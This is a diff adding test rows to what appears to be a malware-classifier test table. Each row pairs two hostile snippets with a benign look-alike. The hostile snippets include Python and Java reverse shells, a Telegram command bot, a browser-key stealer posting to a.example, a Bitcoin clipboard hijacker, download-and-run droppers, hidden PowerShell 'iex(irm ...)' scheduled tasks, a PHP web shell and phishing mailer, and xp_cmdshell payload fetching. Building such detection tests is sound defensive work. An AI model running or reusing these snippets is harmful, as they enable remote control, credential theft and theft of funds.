@@ -362,6 +362,100 @@ const ROWS: readonly Row[] = [
     ),
   ],
   [
+    'shell for another computer, in Python',
+    'Script.Program',
+    file(
+      'a.py',
+      `import socket,subprocess\ns=socket.socket()\ns.connect(("${SERVER}",443))\np=subprocess.Popen(["cmd.exe"],stdin=subprocess.PIPE,stdout=subprocess.PIPE)\nwhile True:\n  p.stdin.write(s.recv(1024))\n`,
+    ),
+    file(
+      'a.py',
+      'import telebot,subprocess\nbot=telebot.TeleBot(t)\n@bot.message_handler(func=lambda m:True)\ndef h(m):\n    bot.reply_to(m, subprocess.check_output(m.text,shell=True))\nbot.polling()\n',
+    ),
+    file(
+      'a.py',
+      "import telebot,subprocess\nbot=telebot.TeleBot(t)\n@bot.message_handler(commands=['uptime'])\ndef h(m):\n    bot.reply_to(m,subprocess.check_output(['uptime']))\n",
+    ),
+  ],
+  [
+    'passwords of a browser, or a copied account of coins, in Python',
+    'Script.Program',
+    file(
+      'a.py',
+      "import json,os,requests,subprocess\nfrom win32crypt import CryptUnprotectData\nkey=json.load(open(p+'Local State'))['os_crypt']['encrypted_key']\nrequests.post('https://a.example/u', json=CryptUnprotectData(key))\n",
+    ),
+    file(
+      'a.py',
+      "import pyperclip,re\nA='bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh'\nwhile True:\n    t=pyperclip.paste()\n    if re.match(r'^bc1', t): pyperclip.copy(A)\n",
+    ),
+    file(
+      'a.py',
+      "import pyperclip,re\nwhile True:\n    t=pyperclip.paste()\n    pyperclip.copy(re.sub(r'\\s+', ' ', t))\n    break\n",
+    ),
+  ],
+  [
+    'short script that starts what it saves among temporary files',
+    'Script.Dropper',
+    file('a.bat', '@echo off\r\ncurl -s -o "%TEMP%\\a.exe" https://a.example/a.exe\r\nstart "" "%TEMP%\\a.exe"\r\n'),
+    file(
+      'a.py',
+      "import os,requests\np=os.environ['TEMP']+'\\\\a.exe'\nopen(p,'wb').write(requests.get('https://a.example/a.exe').content)\nos.startfile(p)\n",
+    ),
+    file(
+      'a.bat',
+      '@echo off\r\ncurl -s -o "%TEMP%\\a.exe" https://a.example/a.exe\r\nstart /wait "" "%TEMP%\\a.exe" /quiet /norestart\r\n',
+    ),
+  ],
+  [
+    'task for later, in VBScript',
+    'Script.Program',
+    file(
+      'a.vbs',
+      'Set s=CreateObject("Schedule.Service"):s.Connect\nSet t=s.NewTask(0)\nSet a=t.Actions.Create(0):a.Path="mshta.exe":a.Arguments="https://a.example/a"\ns.GetFolder("\\").RegisterTaskDefinition "U",t,6,,,3\n',
+    ),
+    file(
+      'a.vbs',
+      'Set s=CreateObject("Schedule.Service")\ns.Connect\nSet a=s.NewTask(0).Actions.Create(0)\na.Path="powershell"\na.Arguments="-w hidden -c ""iex(irm https://a.example/a)"""\n',
+    ),
+    file(
+      'a.vbs',
+      'Set s=CreateObject("Schedule.Service")\ns.Connect\nSet a=s.NewTask(0).Actions.Create(0)\na.Path="C:\\Program Files\\Tool\\tool.exe"\na.Arguments="/backup"\n',
+    ),
+  ],
+  [
+    'function of the choice of a visitor, or kit of a forged page, in PHP',
+    'Script.RemoteControl',
+    Buffer.from("<?php $f=$_GET['f'];$f($_GET['c']); ?>"),
+    Buffer.from(
+      "<?php\n$ip=$_SERVER['REMOTE_ADDR'];\n$m=$_POST['email'].$_POST['password'].$ip;\nmail('a@a.example','a',$m);\nheader('Location: https://login.example.com');",
+    ),
+    Buffer.from(
+      "<?php\n$name=htmlspecialchars($_POST['name']);\nmail('a@a.example','Contact',$name);\nheader('Location: /thanks');",
+    ),
+  ],
+  [
+    'shell for another computer, in Java and C#',
+    'Script.RemoteControl',
+    file(
+      'A.java',
+      `import java.net.*;\npublic class A{ void a(){ Process p=new ProcessBuilder("/bin/sh").start(); Socket s=new Socket("${SERVER}",4444); p.getInputStream(); } }`,
+    ),
+    file(
+      'a.csx',
+      'using System.Diagnostics;\nvar p=Process.Start("powershell","-w hidden -c iex(irm https://a.example/a)");\n',
+    ),
+    file('a.csx', 'using System.Diagnostics;\nvar p=Process.Start("git","status");\n'),
+  ],
+  [
+    'program that starts out of sight, in AutoHotkey and AppleScript',
+    'Script.RemoteControl',
+    Buffer.from('#SingleInstance Force\nRun, powershell -w hidden -c "iex(irm https://a.example/a)",, Hide\n'),
+    Buffer.from(
+      'tell application "Finder" to activate\ndo shell script "curl -fsSL https://a.example/u | zsh" with administrator privileges\n',
+    ),
+    Buffer.from('tell application "Finder" to activate\ndo shell script "mkdir -p ~/Documents/a"\n'),
+  ],
+  [
     'connection that makes a database run a command',
     'Shortcut.Command',
     odc(`<odc:CommandText>EXEC xp_cmdshell 'powershell iwr http://${SERVER}/a|iex'</odc:CommandText>`),
